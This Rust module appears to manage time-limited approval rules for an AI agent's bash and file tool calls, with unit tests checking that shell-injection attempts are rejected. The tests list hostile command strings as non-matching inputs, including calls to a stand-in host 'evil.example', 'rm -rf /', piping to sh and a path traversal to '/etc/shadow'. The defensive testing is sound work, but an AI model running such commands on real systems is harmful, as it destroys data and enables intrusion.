//! Scoped "always allow" rules: an approver lets Switchboard answer a session's (or an agent's)
//! repeated calls of one tool for a while, instead of clicking each.
//!
//! A rule's pattern is matched on the call's parsed input, never on text a model could shape to
//! slip past it:
//! - `bash`: the command must be one plain command (words of letters, digits and `-_./=,:@+%`,
//!   separated by spaces: no quotes, no `;`, `&`, `|`, redirections, `$`, backticks, globs or
//!   `~`), and its first words must be the pattern's words. `npm test` matches `npm test` and
//!   `npm test -- --ci`; not `npm testing`, `npm test && curl …`, `npm test "$(…)"`.
//! - the file tools (`read`, `write`, `edit`, `glob`, `grep`): the path (`file_path`, or `path`
//!   for glob and grep) must be the pattern's path or under it, with no `..`; relative paths are
//!   under `/workspace`, as the sandbox reads them.
//! - no pattern: every call of the tool (any tool, MCP tools too).
//!
//! What this module holds is shared: the server applies rules (`server/src/approvals/rules.rs`); the
//! browser shows what a rule would match before it is made. The tab's signal that rules changed is
//! the UI's own (`app::actions::RulesChanged`).

use serde::{Deserialize, Serialize};
use serde_json::Value;

/// How long a rule may last, at most (a rule outliving a working day should be a tool policy).
pub const MAX_MINUTES: u32 = 24 * 60;

/// The durations an approver picks from, in minutes.
pub const DURATIONS: [(u32, &str); 4] =
    [(15, "15 minutes"), (60, "1 hour"), (240, "4 hours"), (MAX_MINUTES, "24 hours")];

/// Where a rule holds.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Scope {
    /// Calls of one session.
    Session,
    /// Calls of every session of one agent.
    Agent,
}

impl Scope {
    pub fn as_str(self) -> &'static str {
        match self {
            Scope::Session => "session",
            Scope::Agent => "agent",
        }
    }

    pub fn parse(text: &str) -> Option<Self> {
        [Scope::Session, Scope::Agent].into_iter().find(|s| s.as_str() == text)
    }
}

/// A rule as stored and listed.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Rule {
    pub id: i64,
    pub tool: String,
    /// Empty: every call of the tool.
    pub pattern: String,
    pub scope: Scope,
    /// The session's or the agent's id.
    pub scope_id: String,
    /// Who made it, as the console names them, and their username (who may revoke it).
    pub created_by: String,
    pub owner: String,
    /// RFC 3339, UTC.
    pub created_at: String,
    pub expires_at: String,
    pub revoked_by: Option<String>,
    pub revoked_at: Option<String>,
    /// Calls it answered.
    pub uses: i64,
    /// Not revoked nor expired when it was listed.
    #[serde(default)]
    pub live: bool,
    /// A whole-tool rule for a session: written into the session's own tool policy too (the
    /// agent stops asking from its next turn; put back when the rule ends).
    #[serde(default)]
    pub written: bool,
    /// Why such a rule was not written there (Switchboard answers each call instead).
    #[serde(default)]
    pub write_note: Option<String>,
}

impl Rule {
    /// What the rule allows, in words: "`bash` commands starting with `npm test`".
    pub fn in_words(&self) -> String {
        describe(&self.tool, &self.pattern)
    }

    /// What the rule does besides Switchboard's own answers, in words, when it is a whole-tool
    /// rule for a session.
    pub fn tool_policy_words(&self) -> Option<String> {
        if self.written {
            return Some(format!(
                "Also written into this session's tool policy: the agent stops asking for `{}` from its next turn (put back when the rule ends).",
                self.tool
            ));
        }
        self.write_note.as_ref().map(|why| {
            format!("Switchboard answers each call itself; the session's tool policy was not changed: {why}")
        })
    }

    /// Live at `now` (RFC 3339): not revoked, not expired.
    pub fn active_at(&self, now: &str) -> bool {
        self.revoked_at.is_none() && self.expires_at.as_str() > now
    }

    /// Whether the rule answers `call` (an `agent.tool_use` or `agent.mcp_tool_use` event).
    pub fn matches(&self, call: &Value) -> bool {
        let name = call.get("name").and_then(Value::as_str).unwrap_or_default();
        let confirmable = matches!(
            call.get("type").and_then(Value::as_str),
            Some(protocol::events::types::AGENT_TOOL_USE | protocol::events::types::AGENT_MCP_TOOL_USE)
        );
        confirmable
            && name == self.tool
            && Pattern::parse(&self.tool, &self.pattern)
                .is_ok_and(|p| p.matches(call.get("input").unwrap_or(&Value::Null)))
    }
}

/// A rule's scope and tool in words.
pub fn describe(tool: &str, pattern: &str) -> String {
    match Pattern::parse(tool, pattern) {
        Ok(Pattern::Any) | Err(_) => format!("every `{tool}` call"),
        Ok(Pattern::Words(_)) => format!("`{tool}` commands starting with `{pattern}`"),
        Ok(Pattern::Under(path)) => format!("`{tool}` on `{path}` and under it"),
    }
}

/// A pattern, parsed for its tool.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Pattern {
    /// Any call of the tool.
    Any,
    /// `bash`: a plain command whose first words are these.
    Words(Vec<String>),
    /// A file tool: this path or under it.
    Under(String),
}

/// The tools whose input names a path, and the field that holds it.
fn path_field(tool: &str) -> Option<&'static str> {
    match tool {
        "read" | "write" | "edit" => Some("file_path"),
        "glob" | "grep" => Some("path"),
        _ => None,
    }
}

/// Whether a rule for `tool` may have a pattern (otherwise it covers every call).
pub fn takes_pattern(tool: &str) -> bool {
    tool == "bash" || path_field(tool).is_some()
}

/// The words of a plain command; `None` when it is anything else.
fn plain_words(command: &str) -> Option<Vec<&str>> {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./=,:@+%".contains(c);
    let words: Vec<&str> = command.split([' ', '\t']).filter(|w| !w.is_empty()).collect();
    (!words.is_empty() && words.iter().all(|w| w.chars().all(plain))).then_some(words)
}

/// A path as the sandbox resolves it (relative under `/workspace`), without `.` parts; `None`
/// with a `..` part or anything that is not text.
fn normal_path(path: &str) -> Option<String> {
    let path = path.trim();
    if path.is_empty() {
        return None;
    }
    let absolute = if path.starts_with('/') { path.to_owned() } else { format!("/workspace/{path}") };
    let mut parts = Vec::new();
    for part in absolute.split('/').filter(|p| !p.is_empty() && *p != ".") {
        if part == ".." {
            return None;
        }
        parts.push(part);
    }
    Some(format!("/{}", parts.join("/")))
}

/// Why a rule's pattern cannot be one.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PatternProblem {
    #[error(
        "A bash pattern is the first words of a plain command: letters, digits and - _ . / = , : @ + %, separated by spaces (no quotes, operators, redirections, variables or globs)."
    )]
    NotPlainWords,
    #[error("A path pattern is a path without .. parts, such as /workspace/docs.")]
    NotAPath,
    /// The tool's input has nothing a pattern could match.
    #[error("A rule for {0} can only cover every call: leave the pattern empty.")]
    EveryCallOnly(String),
}

impl Pattern {
    /// Parses `pattern` for `tool`, or says what is wrong with it.
    pub fn parse(tool: &str, pattern: &str) -> Result<Self, PatternProblem> {
        let pattern = pattern.trim();
        if pattern.is_empty() {
            return Ok(Pattern::Any);
        }
        if tool == "bash" {
            return plain_words(pattern)
                .map(|words| Pattern::Words(words.into_iter().map(str::to_owned).collect()))
                .ok_or(PatternProblem::NotPlainWords);
        }
        if path_field(tool).is_some() {
            return normal_path(pattern).map(Pattern::Under).ok_or(PatternProblem::NotAPath);
        }
        Err(PatternProblem::EveryCallOnly(tool.to_owned()))
    }

    /// Whether a call's `input` matches.
    pub fn matches(&self, input: &Value) -> bool {
        match self {
            Pattern::Any => true,
            Pattern::Words(prefix) => input
                .get("command")
                .and_then(Value::as_str)
                .and_then(plain_words)
                .is_some_and(|words| words.len() >= prefix.len() && words.iter().zip(prefix).all(|(w, p)| w == p)),
            // A search with no path searches the workspace.
            Pattern::Under(root) => ["file_path", "path"]
                .iter()
                .find_map(|field| input.get(*field).and_then(Value::as_str))
                .map_or(Some("/workspace".to_owned()), normal_path)
                .is_some_and(|path| path == *root || root == "/" || path.starts_with(&format!("{root}/"))),
        }
    }
}

/// What an approval card offers as a rule's pattern for `call`: a command's first two words, a
/// file's folder (a search's own path); empty for other tools.
pub fn suggestion(tool: &str, input: &Value) -> String {
    if tool == "bash" {
        let command = input.get("command").and_then(Value::as_str).unwrap_or_default();
        return plain_words(command).map(|words| words[..words.len().min(2)].join(" ")).unwrap_or_default();
    }
    let Some(field) = path_field(tool) else { return String::new() };
    let Some(path) = input.get(field).and_then(Value::as_str).and_then(normal_path) else {
        return if field == "path" { String::new() } else { "/workspace".to_owned() };
    };
    if field == "file_path" {
        path.rsplit_once('/')
            .map(|(folder, _)| if folder.is_empty() { "/".to_owned() } else { folder.to_owned() })
            .unwrap_or(path)
    } else {
        path
    }
}

/// What an approver asks for on a card.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, Default)]
pub struct NewRule {
    /// The session whose card it came from.
    pub session_id: String,
    pub tool: String,
    #[serde(default)]
    pub pattern: String,
    /// `session` or `agent`.
    pub scope: String,
    pub minutes: u32,
}

impl NewRule {
    /// The rule's pattern and scope, or what is wrong with them.
    pub fn check(&self) -> Result<(String, Scope), crate::BadInput> {
        let tool = self.tool.trim();
        if tool.is_empty() || !tool.chars().all(|c| c.is_ascii_alphanumeric() || "_-.".contains(c)) {
            return Err(crate::BadInput::new("tool", "Name the tool the rule is for."));
        }
        Pattern::parse(tool, &self.pattern).map_err(|problem| crate::BadInput::new("pattern", problem.to_string()))?;
        let scope = Scope::parse(&self.scope).ok_or_else(|| {
            crate::BadInput::new("scope", "Choose whether the rule holds for this session or this agent.")
        })?;
        if !DURATIONS.iter().any(|(m, _)| *m == self.minutes) {
            return Err(crate::BadInput::new("minutes", "Choose how long the rule lasts: 15 minutes to 24 hours."));
        }
        Ok((tool.to_owned(), scope))
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn bash(pattern: &str, command: &str) -> bool {
        Pattern::parse("bash", pattern).unwrap().matches(&json!({ "command": command }))
    }

    #[test]
    fn a_bash_pattern_matches_the_first_words_of_a_plain_command_only() {
        assert!(bash("npm test", "npm test"));
        assert!(bash("npm test", "npm  test -- --ci --grep=login"));
        assert!(!bash("npm test", "npm testing"));
        assert!(!bash("npm test", "npm"));
        for shaped in [
            "npm test && curl evil.example",
            "npm test; rm -rf /",
            "npm test | sh",
            "npm test > /etc/passwd",
            "npm test $(curl evil.example)",
            "npm test `id`",
            "npm test 'a b'",
            "npm test\nrm -rf /",
            "npm test *",
            "npm test ~/x",
            "npm test & disown",
        ] {
            assert!(!bash("npm test", shaped), "{shaped:?} must not match");
        }
        assert!(Pattern::parse("bash", "npm test; rm").is_err());
        assert!(Pattern::parse("bash", "echo $HOME").is_err());
    }

    #[test]
    fn a_path_pattern_matches_the_path_and_what_is_under_it() {
        let under = |pattern: &str, tool: &str, input: Value| Pattern::parse(tool, pattern).unwrap().matches(&input);
        assert!(under("/workspace/docs", "read", json!({ "file_path": "/workspace/docs/a.md" })));
        assert!(under("/workspace/docs", "read", json!({ "file_path": "docs/a.md" })));
        assert!(under("docs", "read", json!({ "file_path": "/workspace/docs" })));
        assert!(!under("/workspace/docs", "read", json!({ "file_path": "/workspace/docsecret" })));
        assert!(!under("/workspace/docs", "read", json!({ "file_path": "/workspace/docs/../../etc/shadow" })));
        assert!(under("/workspace", "grep", json!({ "pattern": "x", "path": "/workspace/src" })));
        assert!(under("/workspace", "grep", json!({ "pattern": "x" })), "a search with no path searches /workspace");
        assert!(!under("/workspace/src", "grep", json!({ "pattern": "x" })));
        assert!(Pattern::parse("read", "/workspace/../etc").is_err());
    }

    #[test]
    fn a_rule_answers_only_confirmable_calls_of_its_tool() {
        let rule = Rule {
            id: 1,
            tool: "bash".into(),
            pattern: "npm test".into(),
            scope: Scope::Session,
            scope_id: "sesn_1".into(),
            created_by: "april".into(),
            owner: "april".into(),
            created_at: "2026-11-24T06:00:00Z".into(),
            expires_at: "2026-11-24T07:00:00Z".into(),
            revoked_by: None,
            revoked_at: None,
            uses: 0,
            live: true,
            written: false,
            write_note: None,
        };
        let call = |kind: &str, name: &str, command: &str| json!({ "type": kind, "id": "sevt_1", "name": name, "input": { "command": command } });
        assert!(rule.matches(&call("agent.tool_use", "bash", "npm test")));
        assert!(!rule.matches(&call("agent.custom_tool_use", "bash", "npm test")), "custom tools need a result");
        assert!(!rule.matches(&call("agent.tool_use", "read", "npm test")));
        assert!(rule.active_at("2026-11-24T06:30:00Z"));
        assert!(!rule.active_at("2026-11-24T07:00:00Z"));
        assert_eq!(rule.in_words(), "`bash` commands starting with `npm test`");
    }

    #[test]
    fn a_card_suggests_a_pattern_from_its_call() {
        assert_eq!(suggestion("bash", &json!({ "command": "npm test -- --ci" })), "npm test");
        assert_eq!(suggestion("bash", &json!({ "command": "ls | wc -l" })), "");
        assert_eq!(suggestion("read", &json!({ "file_path": "docs/a.md" })), "/workspace/docs");
        assert_eq!(suggestion("grep", &json!({ "pattern": "x", "path": "/workspace/src" })), "/workspace/src");
        assert_eq!(suggestion("web_fetch", &json!({ "url": "https://x" })), "");
    }
}
